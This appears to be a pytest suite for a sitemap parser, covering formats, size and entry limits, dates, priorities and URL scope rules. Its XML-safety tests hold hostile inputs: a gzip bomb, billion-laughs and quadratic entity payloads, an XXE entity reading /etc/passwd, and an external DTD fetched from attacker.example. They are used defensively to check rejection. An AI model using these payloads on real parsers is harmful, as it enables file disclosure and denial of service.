"""Tests for transforms.core.sitemaps: formats, limits, XML safety, dates, scope and priorities."""

from __future__ import annotations

import codecs
import gzip
import random
import time
import zlib
from datetime import UTC, datetime

import pytest

from transforms.core.sitemap_scope import filter_scope, in_scope, sitemap_priority
from transforms.core.sitemaps import (
    DEFAULT_SITEMAP_PATHS,
    KIND_INDEX,
    KIND_TEXT,
    KIND_URLSET,
    MAX_ENTRIES,
    MAX_ERRORS,
    MAX_INVALID_ENTRIES,
    MAX_LOC_LENGTH,
    MAX_SITEMAP_BYTES,
    Sitemap,
    SitemapEntry,
    parse_priority,
    parse_sitemap,
    parse_w3c_datetime,
)

SITEMAP_URL = "https://www.example.com/sitemap.xml"


def ts(*args: int) -> float:
    return datetime(*args, tzinfo=UTC).timestamp()


# A sitemap as generators write it: declaration, namespaces for the image and hreflang
# extensions, entities in URLs, whitespace around values, an image whose <image:loc> must not
# pass for the page's <loc>, and a video extension whose prefix is never declared.
URLSET = b"""<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"
        xmlns:image="http://www.google.com/schemas/sitemap-image/1.1"
        xmlns:xhtml="http://www.w3.org/1999/xhtml">
  <url>
    <loc>
      https://www.example.com/catalog?item=12&amp;desc=vacation_hawaii
    </loc>
    <lastmod>2024-03-05T10:20:30+01:00</lastmod>
    <changefreq>Weekly</changefreq>
    <priority>0.8</priority>
    <image:image><image:loc>https://img.example.com/hawaii.jpg</image:loc></image:image>
    <xhtml:link rel="alternate" hreflang="fr" href="https://www.example.com/fr/catalog"/>
  </url>
  <url>
    <video:video><video:content_loc>https://v.example.com/v.mp4</video:content_loc>
      <video:loc>https://v.example.com/not-a-page</video:loc></video:video>
    <loc>https://www.example.com/catalog?item=73&amp;desc=vacation_new_zealand</loc>
    <lastmod>2024-02</lastmod>
    <changefreq>sometimes</changefreq>
    <priority>high</priority>
  </url>
  <url><loc>https://www.example.com/caf\xc3\xa9</loc></url>
</urlset>
"""

URLSET_ENTRIES = (
    SitemapEntry("https://www.example.com/catalog?item=12&desc=vacation_hawaii",
                 ts(2024, 3, 5, 9, 20, 30), 0.8, "weekly"),
    SitemapEntry("https://www.example.com/catalog?item=73&desc=vacation_new_zealand",
                 ts(2024, 2, 1), None, None),
    SitemapEntry("https://www.example.com/caf\u00e9"),
)

INDEX = b"""<?xml version="1.0" encoding="UTF-8"?>
<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
  <sitemap><loc>https://www.example.com/sitemaps/pages-1.xml.gz</loc>
    <lastmod>2024-01-15</lastmod></sitemap>
  <sitemap><loc>https://www.example.com/sitemaps/pages-2.xml.gz</loc></sitemap>
  <url><loc>https://www.example.com/a-page-does-not-belong-here</loc></url>
</sitemapindex>
"""


def urlset(n: int, host: str = "https://www.example.com") -> bytes:
    body = "".join(f"<url><loc>{host}/p{i}</loc></url>" for i in range(n))
    return f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{body}</urlset>'.encode()


def test_urlset_with_namespaces_entities_and_extensions():
    sitemap = parse_sitemap(URLSET, SITEMAP_URL, "application/xml")
    assert sitemap.kind == KIND_URLSET
    assert sitemap.entries == URLSET_ENTRIES
    assert not sitemap.truncated
    assert sitemap.errors == ()


def test_urlset_without_namespace_and_with_a_prefixed_one():
    plain = b"<urlset><url><loc>http://h.example/a</loc><priority>1</priority></url></urlset>"
    assert parse_sitemap(plain, "http://h.example/sitemap.xml").entries == (
        SitemapEntry("http://h.example/a", priority=1.0),)
    prefixed = (b'<sm:urlset xmlns:sm="http://www.google.com/schemas/sitemap/0.84">'
                b"<sm:url><sm:loc>http://h.example/b</sm:loc><loc>http://h.example/no</loc>"
                b"</sm:url></sm:urlset>")
    # A field must carry its entry's prefix: the unprefixed <loc> is not the entry's.
    assert parse_sitemap(prefixed, "http://h.example/sitemap.xml").entries == (
        SitemapEntry("http://h.example/b"),)


def test_sitemap_index_lists_child_sitemaps_only():
    sitemap = parse_sitemap(INDEX, SITEMAP_URL)
    assert sitemap.kind == KIND_INDEX
    assert sitemap.entries == (
        SitemapEntry("https://www.example.com/sitemaps/pages-1.xml.gz", ts(2024, 1, 15)),
        SitemapEntry("https://www.example.com/sitemaps/pages-2.xml.gz"),
    )


def test_gzip_is_recognised_by_its_bytes_whatever_the_url_or_type():
    for url, content_type in [("https://h.example/s.xml", "text/xml"),
                              ("https://h.example/s.xml.gz", "application/octet-stream"),
                              ("https://h.example/s", None)]:
        assert parse_sitemap(gzip.compress(URLSET), url, content_type).entries == URLSET_ENTRIES
    text = b"https://h.example/1\nhttps://h.example/2\n"
    sitemap = parse_sitemap(gzip.compress(text), "https://h.example/s.txt.gz", "application/gzip")
    assert (sitemap.kind, len(sitemap.entries)) == (KIND_TEXT, 2)


def test_concatenated_gzip_members_are_one_stream():
    body = URLSET[:300]
    members = gzip.compress(body) + gzip.compress(URLSET[300:]) + b"\x00\x00"
    assert parse_sitemap(members, SITEMAP_URL).entries == URLSET_ENTRIES


def test_truncated_or_corrupt_gzip_keeps_what_was_read():
    compressed = gzip.compress(urlset(2000), 1)
    sitemap = parse_sitemap(compressed[: len(compressed) // 2], SITEMAP_URL)
    assert 0 < len(sitemap.entries) < 2000
    assert any("gzip" in error for error in sitemap.errors)
    garbage = parse_sitemap(b"\x1f\x8b" + bytes(range(256)), SITEMAP_URL)
    assert garbage.entries == () and garbage.errors


def test_gzip_bomb_is_cut_at_50_mb():
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    parts = [compressor.compress(urlset(3)[:-len(b"</urlset>")])]
    spaces = b" " * (1024 * 1024)
    parts += [compressor.compress(spaces) for _ in range(MAX_SITEMAP_BYTES // len(spaces) + 20)]
    parts.append(compressor.compress(b"<url><loc>https://www.example.com/late</loc></url>"))
    bomb = b"".join(parts) + compressor.flush()
    assert len(bomb) < 200_000  # 70 MB of XML
    started = time.monotonic()
    sitemap = parse_sitemap(bomb, SITEMAP_URL)
    assert time.monotonic() - started < 10
    assert sitemap.truncated
    assert [e.url for e in sitemap.entries] == [f"https://www.example.com/p{i}" for i in range(3)]
    assert any(str(MAX_SITEMAP_BYTES) in error for error in sitemap.errors)


def test_uncompressed_body_over_50_mb_is_cut_too():
    body = b"https://h.example/a\n" + b"\n" * MAX_SITEMAP_BYTES + b"https://h.example/late\n"
    sitemap = parse_sitemap(body, "https://h.example/sitemap.txt")
    assert sitemap.truncated
    assert sitemap.entries == (SitemapEntry("https://h.example/a"),)


def test_text_sitemap_lines_blank_lines_crlf_and_bom():
    body = (codecs.BOM_UTF8 + b"https://h.example/a\r\n\r\n   https://h.example/b  \n"
            b"not a url\nftp://h.example/f\nhttps://h.example/caf\xc3\xa9\nhttps://h.example/\xff\n"
            b"http://h.example/last")
    sitemap = parse_sitemap(body, "https://h.example/sitemap.txt", "text/plain")
    assert sitemap.kind == KIND_TEXT
    assert [e.url for e in sitemap.entries] == [
        "https://h.example/a", "https://h.example/b", "https://h.example/caf\u00e9",
        "http://h.example/last"]
    assert len(sitemap.errors) == 3  # "not a url", the ftp URL and the line that is not UTF-8


def test_xml_with_bom_leading_whitespace_or_utf16():
    expected = (SitemapEntry("https://h.example/a"),)
    xml = b'<?xml version="1.0" encoding="UTF-8"?><urlset><url><loc>https://h.example/a</loc>' \
          b"</url></urlset>"
    for body in (codecs.BOM_UTF8 + xml, b"\n\n  \t" + xml, codecs.BOM_UTF8 + b"\r\n" + xml):
        assert parse_sitemap(body, "https://h.example/sitemap.xml").entries == expected
    utf16 = codecs.BOM_UTF16_LE + xml.replace(b"UTF-8", b"UTF-16").decode().encode("utf-16-le")
    assert parse_sitemap(utf16, "https://h.example/sitemap.xml").entries == expected
    latin1 = '<?xml version="1.0" encoding="ISO-8859-1"?><urlset><url><loc>https://h.example/' \
             'caf\u00e9</loc></url></urlset>'.encode("latin-1")
    assert parse_sitemap(latin1, "https://h.example/s.xml").entries[0].url.endswith("caf\u00e9")


def test_exactly_50000_entries_is_not_truncated():
    sitemap = parse_sitemap(urlset(MAX_ENTRIES), SITEMAP_URL)
    assert len(sitemap.entries) == MAX_ENTRIES
    assert not sitemap.truncated and sitemap.errors == ()


def test_more_than_50000_entries_are_truncated():
    sitemap = parse_sitemap(urlset(MAX_ENTRIES + 5), SITEMAP_URL)
    assert len(sitemap.entries) == MAX_ENTRIES
    assert sitemap.entries[-1].url == f"https://www.example.com/p{MAX_ENTRIES - 1}"
    assert sitemap.truncated
    text = "".join(f"https://h.example/{i}\n" for i in range(MAX_ENTRIES + 1)).encode()
    sitemap = parse_sitemap(text, "https://h.example/sitemap.txt")
    assert len(sitemap.entries) == MAX_ENTRIES and sitemap.truncated


def test_invalid_entries_are_skipped_with_bounded_errors():
    long_url = "https://h.example/" + "x" * MAX_LOC_LENGTH
    body = ("<urlset>" + "".join(
        f"<url><loc>{loc}</loc></url>" for loc in
        ["/relative", "mailto:a@h.example", "https://", long_url, "http://h.example/ok"] * 10)
        + "<url><lastmod>2024</lastmod></url></urlset>").encode()
    sitemap = parse_sitemap(body, "http://h.example/sitemap.xml")
    assert sitemap.entries == (SitemapEntry("http://h.example/ok"),) * 10
    assert len(sitemap.errors) == MAX_ERRORS + 1
    assert sitemap.errors[-1] == "21 more entry errors"
    assert not sitemap.truncated


def test_too_many_invalid_entries_stop_the_parse():
    body = b"x\n" * MAX_INVALID_ENTRIES + b"https://h.example/after\n"
    sitemap = parse_sitemap(body, "https://h.example/sitemap.txt")
    assert sitemap.entries == ()
    assert "stopped reading" in sitemap.errors[-2]


def test_malformed_xml_keeps_the_entries_before_the_error():
    body = (b"<urlset><url><loc>https://h.example/1</loc></url>"
            b"<url><loc>https://h.example/2</loc></url><url><loc>https://h.example/&nbsp;</loc>"
            b"</url><url><loc>https://h.example/4</loc></url></urlset>")
    sitemap = parse_sitemap(body, "https://h.example/sitemap.xml")
    assert [e.url for e in sitemap.entries] == ["https://h.example/1", "https://h.example/2"]
    assert len(sitemap.errors) == 1
    assert sitemap.errors[0].startswith("XML error: undefined entity: line 1, column ")
    cut = parse_sitemap(urlset(10)[:-20], SITEMAP_URL)
    assert len(cut.entries) == 9 and cut.errors[0].startswith("XML error")
    mismatched = parse_sitemap(b"<urlset><url><loc>https://h.example/</url>", SITEMAP_URL)
    assert mismatched.entries == () and "mismatched tag" in mismatched.errors[0]


@pytest.mark.parametrize(
    "body",
    [
        # billion laughs
        b'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY a "aaaaaaaaaa">'
        + b"".join(f'<!ENTITY {c} "{chr(ord(c) - 1)}' .encode() + b"".join(
            f"&{chr(ord(c) - 1)};".encode() for _ in range(10)) + b'">' for c in "bcdefghij")
        + b"]><urlset><url><loc>https://h.example/&j;</loc></url></urlset>",
        # quadratic blowup
        b'<!DOCTYPE urlset [<!ENTITY x "' + b"x" * 100_000 + b'">]><urlset><url><loc>'
        b"https://h.example/" + b"&x;" * 10_000 + b"</loc></url></urlset>",
        # external entity (XXE) and external parameter entity
        b'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<urlset><url><loc>https://h.example/&xxe;</loc></url></urlset>",
        b'<!DOCTYPE urlset [<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;]>'
        b"<urlset><url><loc>https://h.example/a</loc></url></urlset>",
        # an external DTD alone is refused too
        b'<!DOCTYPE urlset SYSTEM "http://attacker.example/sitemap.dtd"><urlset><url><loc>'
        b"https://h.example/a</loc></url></urlset>",
    ],
    ids=["billion-laughs", "quadratic", "xxe", "parameter-entity", "external-dtd"],
)
def test_doctype_and_entity_declarations_are_rejected(body):
    started = time.monotonic()
    sitemap = parse_sitemap(body, "https://h.example/sitemap.xml")
    assert time.monotonic() - started < 1
    assert sitemap.entries == ()
    assert len(sitemap.errors) == 1 and "DOCTYPE" in sitemap.errors[0]


@pytest.mark.parametrize(
    ("body", "content_type", "error"),
    [
        (b"<rss version='2.0'><channel><link>https://h.example/</link></channel></rss>",
         "application/rss+xml", "not a sitemap: root element <rss>"),
        (b"<!DOCTYPE html><html><body>Not found</body></html>", "text/html", "DOCTYPE"),
        (b"<html><body><a href='https://h.example/'>x</a></body></html>", "text/html",
         "not a sitemap: root element <html>"),
        (b"Page not found. Try https://h.example/ instead.", "text/html; charset=utf-8",
         "an HTML page, not a sitemap"),
        (b"", None, "empty body"),
    ],
)
def test_documents_that_are_not_sitemaps(body, content_type, error):
    sitemap = parse_sitemap(body, "https://h.example/sitemap.xml", content_type)
    assert sitemap.entries == ()
    assert any(error in e for e in sitemap.errors), sitemap.errors


def test_parse_never_raises_on_random_input():
    rng = random.Random(2024)
    fragments = [b"<urlset>", b"</urlset>", b"<sitemapindex>", b"<url>", b"</url>", b"<loc>",
                 b"</loc>", b"<sitemap>", b"<lastmod>", b"</lastmod>", b"2024-02-30T99:00+99:99",
                 b"<priority>", b"nan", b"</priority>", b"https://h.example/", b"&amp;", b"&x;",
                 b"<!DOCTYPE", b"<?xml version='1.0' encoding='utf-7'?>", b"\x00", b"\xff\xfe",
                 b"\x1f\x8b", b"\xef\xbb\xbf", b"\n", b"<a:loc>", b"http://[::1", b"]:99999/"]
    for i in range(600):
        if i % 3 == 0:
            body = rng.randbytes(rng.randint(0, 2000))
        else:
            body = b"".join(rng.choice(fragments) for _ in range(rng.randint(0, 60)))
        if i % 5 == 0:
            body = gzip.compress(body)[: rng.randint(0, len(body) + 30)]
        sitemap = parse_sitemap(body, "https://h.example/sitemap.xml", rng.choice(
            [None, "text/html", "application/xml"]))
        assert isinstance(sitemap, Sitemap)
        assert sitemap.kind in (KIND_URLSET, KIND_INDEX, KIND_TEXT)
        for entry in sitemap.entries:
            assert entry.url.lower().startswith(("http://", "https://"))
            assert entry.url == entry.url.strip() and "\x00" not in entry.url
            assert entry.priority is None or 0.0 <= entry.priority <= 1.0


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2024", ts(2024, 1, 1)),
        ("2024-03", ts(2024, 3, 1)),
        ("2024-03-05", ts(2024, 3, 5)),
        ("  2024-03-05\n", ts(2024, 3, 5)),
        ("2024-03-05T10:20Z", ts(2024, 3, 5, 10, 20)),
        ("2024-03-05T10:20+01:00", ts(2024, 3, 5, 9, 20)),
        ("2024-03-05T10:20:30Z", ts(2024, 3, 5, 10, 20, 30)),
        ("2024-03-05T10:20:30-05:00", ts(2024, 3, 5, 15, 20, 30)),
        ("2024-03-05T10:20:30.25+00:00", ts(2024, 3, 5, 10, 20, 30) + 0.25),
        ("2024-03-05T10:20:30.1234567Z", ts(2024, 3, 5, 10, 20, 30) + 0.123456),
        ("2024-03-05 10:20:30", ts(2024, 3, 5, 10, 20, 30)),  # no zone: read as UTC
        ("2024-03-05T10:20:30+0530", ts(2024, 3, 5, 4, 50, 30)),
        ("1970-01-01T00:00:00Z", 0.0),
    ],
)
def test_lastmod_w3c_datetime_forms(text, expected):
    assert parse_w3c_datetime(text) == pytest.approx(expected, abs=1e-6)


@pytest.mark.parametrize(
    "text",
    ["", "yesterday", "2024-13-01", "2024-02-30", "2024-3-5", "24-03-05", "2024-03-05T25:00Z",
     "2024-03-05T10:61Z", "2024-03-05T10:20+24:00", "2024-03-05T10", "0000-01-01",
     "Tue, 05 Mar 2024 10:20:30 GMT", "\u0662\u0660\u0662\u0664", "2024-03-05T10:20:30Zjunk"],
)
def test_lastmod_invalid_forms_are_none(text):
    assert parse_w3c_datetime(text) is None


def test_invalid_lastmod_keeps_the_entry_with_an_error():
    body = b"<urlset><url><loc>https://h.example/</loc><lastmod>soon</lastmod></url></urlset>"
    sitemap = parse_sitemap(body, "https://h.example/sitemap.xml")
    assert sitemap.entries == (SitemapEntry("https://h.example/"),)
    assert "lastmod" in sitemap.errors[0]


@pytest.mark.parametrize(
    ("text", "expected"),
    [("0.8", 0.8), (" 1 ", 1.0), ("0", 0.0), ("1.0", 1.0), (".5", 0.5), ("1.01", None),
     ("-0.1", None), ("nan", None), ("inf", None), ("high", None), ("", None)],
)
def test_priority_values(text, expected):
    assert parse_priority(text) == expected


@pytest.mark.parametrize(
    ("priority", "expected"),
    [(None, 7), (0.5, 7), (1.0, 12), (0.0, 2), (0.8, 10), (0.65, 9), (0.35, 5), (0.75, 10),
     (0.25, 4), (0.1, 3), (0.55, 8)],
)
def test_sitemap_priority_maps_around_the_default(priority, expected):
    assert sitemap_priority(SitemapEntry("https://h.example/", priority=priority), 7) == expected


def test_sitemap_priority_scale():
    entry = SitemapEntry("https://h.example/", priority=1.0)
    assert sitemap_priority(entry, 0, scale=100) == 50
    assert sitemap_priority(entry, 0, scale=0) == 0


def test_default_sitemap_paths():
    assert DEFAULT_SITEMAP_PATHS == ("/sitemap.xml",)


@pytest.mark.parametrize(
    ("sitemap_url", "entry_url", "expected"),
    [
        # the protocol's own example
        ("http://example.com/catalog/sitemap.xml", "http://example.com/catalog/show?item=23",
         True),
        ("http://example.com/catalog/sitemap.xml", "http://example.com/catalog/", True),
        ("http://example.com/catalog/sitemap.xml", "http://example.com/images/x.jpg", False),
        ("http://example.com/catalog/sitemap.xml", "http://example.com/", False),
        ("http://example.com/catalog/sitemap.xml", "http://example.com/catalog", False),
        ("http://example.com/catalog/sitemap.xml", "http://example.com/catalogue/x", False),
        ("http://example.com/catalog/sitemap.xml", "http://example.com/catalog/../admin/",
         False),
        ("http://example.com/catalog/sitemap.xml", "http://example.com/%63atalog/x", True),
        ("http://example.com/sitemap.xml", "http://example.com/any/depth/page", True),
        ("http://example.com/sitemap.xml?page=/a/", "http://example.com/b", True),
        # same scheme, host and port
        ("http://example.com/sitemap.xml", "https://example.com/x", False),
        ("http://example.com/sitemap.xml", "http://www.example.com/x", False),
        ("http://example.com/sitemap.xml", "http://sub.example.com/x", False),
        ("http://example.com:8080/sitemap.xml", "http://example.com/x", False),
        ("http://example.com:80/sitemap.xml", "HTTP://EXAMPLE.com/x", True),
        ("http://user@example.com/sitemap.xml", "http://example.com/x", True),
        # invalid URLs are out of scope
        ("http://example.com/sitemap.xml", "not a url", False),
        ("http://example.com/sitemap.xml", "http://", False),
        ("", "http://example.com/x", False),
    ],
)
def test_in_scope_location_rule(sitemap_url, entry_url, expected):
    assert in_scope(sitemap_url, entry_url) is expected


def test_in_scope_robots_txt_cross_submission():
    robots = "https://www.example.com/robots.txt"
    # A sitemap hosted elsewhere may list the robots.txt host's URLs, anywhere on it ...
    assert in_scope("https://maps.example.net/s/1.xml", "https://www.example.com/a/b",
                    robots_origin=robots)
    # ... and its own directory's, but nothing on a third host.
    assert in_scope("https://maps.example.net/s/1.xml", "https://maps.example.net/s/x",
                    robots_origin=robots)
    assert not in_scope("https://maps.example.net/s/1.xml", "https://other.example.org/",
                        robots_origin=robots)
    assert not in_scope("https://maps.example.net/s/1.xml", "http://www.example.com/a",
                        robots_origin=robots)
    # A robots.txt listing a sitemap in a sub-directory vouches for its whole host.
    assert in_scope("https://www.example.com/sitemaps/1.xml", "https://www.example.com/page",
                    robots_origin=robots)
    assert not in_scope("https://www.example.com/sitemaps/1.xml", "https://www.example.com/page")


def test_filter_scope_on_a_urlset_counts_the_dropped():
    sitemap = parse_sitemap(
        b"<urlset><url><loc>https://h.example/shop/a</loc></url>"
        b"<url><loc>https://h.example/blog/b</loc></url><url><loc>https://evil.example/shop/c"
        b"</loc></url><url><loc>https://h.example/shop/d</loc></url></urlset>",
        "https://h.example/shop/sitemap.xml")
    kept, dropped = filter_scope(sitemap, "https://h.example/shop/sitemap.xml")
    assert [e.url for e in kept] == ["https://h.example/shop/a", "https://h.example/shop/d"]
    assert dropped == 2


def test_filter_scope_on_an_index_allows_children_anywhere_on_its_site():
    body = b"<sitemapindex>" + b"".join(
        b"<sitemap><loc>%s</loc></sitemap>" % url for url in [
            b"https://h.example/maps/1.xml", b"https://h.example/other/2.xml.gz",
            b"https://h.example:8443/3.xml", b"http://h.example/4.xml",
            b"https://cdn.example.net/5.xml"]) + b"</sitemapindex>"
    index_url = "https://h.example/maps/index.xml"
    index = parse_sitemap(body, index_url)
    kept, dropped = filter_scope(index, index_url)
    assert [e.url for e in kept] == [
        "https://h.example/maps/1.xml", "https://h.example/other/2.xml.gz"]
    assert dropped == 3
    kept, dropped = filter_scope(index, index_url, robots_origin="https://cdn.example.net/")
    assert [e.url for e in kept][-1] == "https://cdn.example.net/5.xml"
    assert dropped == 2


def test_filter_scope_on_a_text_sitemap():
    sitemap = parse_sitemap(b"https://h.example/a\nhttps://x.example/b\n", "https://h.example/s.txt")
    assert filter_scope(sitemap, "https://h.example/s.txt") == (
        [SitemapEntry("https://h.example/a")], 1)
